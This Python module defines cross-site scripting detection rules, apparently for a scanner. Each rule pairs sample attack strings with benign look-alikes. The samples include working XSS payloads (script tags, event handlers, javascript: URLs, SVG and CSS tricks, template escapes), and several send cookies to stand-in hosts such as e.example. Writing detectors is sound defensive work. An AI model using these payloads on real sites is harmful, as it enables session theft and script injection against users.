"""Cross-site scripting: what `lexers.html` names. Ids from 100 on are weak shades: flagged, not blocked."""

from __future__ import annotations

from .rule import Rule


def _rule(
    number: int,
    title: str,
    attacks: tuple[str | tuple[str, str], ...],
    benign: tuple[str | tuple[str, str], ...] = (),
    capec: int = 63,
) -> Rule:
    weak = number >= 100
    return Rule(
        f"LG-XSS-{number:03}",
        "xss",
        title,
        cwe=79,
        capec=capec,
        severity="low" if weak else "high",
        confidence="medium" if weak else "high",
        attacks=attacks,
        benign=benign,
    )


RULES = (
    _rule(
        1,
        "script element",
        (
            "<script>steal(document.cookie)</script>",
            '"><sCrIpT/x src=//cdn.evil.example/a>',
            ("body", "nice<script>new Image().src='//e.example/'+document.cookie</script>"),
        ),
        (
            ("body", "The <script> element and the <style> element belong into the head."),
            ("body", "Wrap it in `<script>alert(1)</script>` to see the dialog open"),
        ),
    ),
    _rule(
        2,
        "event handler in a tag",
        ("<img/src/onerror=report(1)>", ("body", "<details open ontoggle=run()>"), "<a\tonpointerrawupdate='x()'>"),
        (("body", "<Button onClick={() => setOpen(true)}>Open</Button>"), "is a<b and only=1 c>d"),
    ),
    _rule(
        3,
        "script URL in markup",
        (
            '<a href="java\tscript:go()">x</a>',
            ("body", "[url=javascript:steal()]win[/url]"),
            '<iframe src="data:text/html;base64,PGI+">',
        ),
        (("body", '<a href="javascript:void(0)">menu</a>'), ("body", '<img src="data:image/png;base64,iVBORw0KGgo=">')),
    ),
    _rule(
        4,
        "element that loads foreign content",
        ("<iframe src=//evil.example>", ("body", "<base href=//evil.example/>"), '"><object data=x.swf>'),
        (
            (
                "body",
                'Watch it here: <iframe src="https://video.example/embed/1"></iframe> and tell me what you think of the ending',
            ),
        ),
    ),
    _rule(
        5,
        "SVG element that changes or runs others",
        (
            "<svg><a><animate attributeName=href values=javascript:x() /></a>",
            ("body", '<set attributeName="onmouseover" to="x()"/>'),
        ),
        (("body", '<svg viewBox="0 0 8 8"><path d="M0 0h8v8H0z"/></svg>'),),
    ),
    _rule(
        6,
        "style sheet that runs script",
        ('<p style="x:expression(run())">', ("body", "<b style=-moz-binding:url(//e.example/x.xml#y)>")),
        (("body", "a regular expression (regex) with style: greedy"),),
    ),
    _rule(
        7,
        "attribute break-out with an event handler",
        ('" onfocus=run(1) autofocus x="', "x' onmouseover='alert(7)"),
        (("body", 'I said "on time = on budget" and meant it'),),
    ),
    _rule(
        8,
        "break-out of a script string",
        ("';alert(document.domain)//", '"-confirm(1)-"'),
        (("body", "print('done'); alert_user(name)"), "don't; alert the team (again)"),
    ),
    _rule(
        9,
        "script as the whole text",
        ("eval(atob(location.hash.slice(1)))", "top['al'+'ert'](1)"),
        ("alert (3 new)", ("body", "window.onload = function () {\n  start();\n};")),
    ),
    _rule(
        10,
        "script URL as the whole text",
        ("javascript:fetch('//e.example/'+document.cookie)",),
        ("JavaScript: the good parts", "javascript:void(0)"),
    ),
    _rule(
        11,
        "client-side template sandbox escape",
        ("{{constructor.constructor('alert(1)')()}}", "${alert(document.domain)}"),
        (("body", "Hello {{user.name}}, your ${item}"),),
    ),
    _rule(12, "markup in UTF-7", ("+ADw-script+AD4-run()+ADw-/script+AD4-",), capec=247),
    _rule(
        14,
        "closes raw text that it did not open",
        ("</title></style><x>", '</script>"><b>'),
        (("body", "the </script> tag ends it"),),
    ),
    _rule(
        15,
        "page structure in a place that holds none",
        ('<form method="post" class=x><input name="pin" type=password>',),
        ("center a <form> in a <body>", '<b class="x">hi</b>'),
    ),
    _rule(101, "script element, shown or empty", (("body", "The <script> element runs code."),)),
    _rule(102, "event handler in a tag, shown or empty", (("body", 'Use `<a onclick="go()">` to do that in old browsers'),)),
    _rule(103, "script URL in markup, shown or harmless", (("body", '<a href="javascript:void(0)">menu</a>'),)),
    _rule(
        104,
        "element that loads content, among text",
        (
            (
                "body",
                'Watch it here: <iframe src="https://video.example/embed/1"></iframe> and tell me what you think of the ending',
            ),
        ),
    ),
    _rule(105, "SVG in a text", (("body", '<svg viewBox="0 0 8 8"><path d="M0 0h8v8H0z"/></svg>'),)),
    _rule(106, "style sheet that fetches", (("body", '<p style="background:url(https://e.example/a.png)">Hi there</p>'),)),
    _rule(107, "looks like an attribute break-out", (("body", '" onclick=go'),)),
    _rule(108, "looks like a script break-out", (("body", "The tester sends `';alert(1)//` to each of the fields"),)),
    _rule(109, "script among text", (("body", "location.replace('/home')"),)),
    _rule(120, "stray end tag", (("body", "see </textarea> there"),)),
)
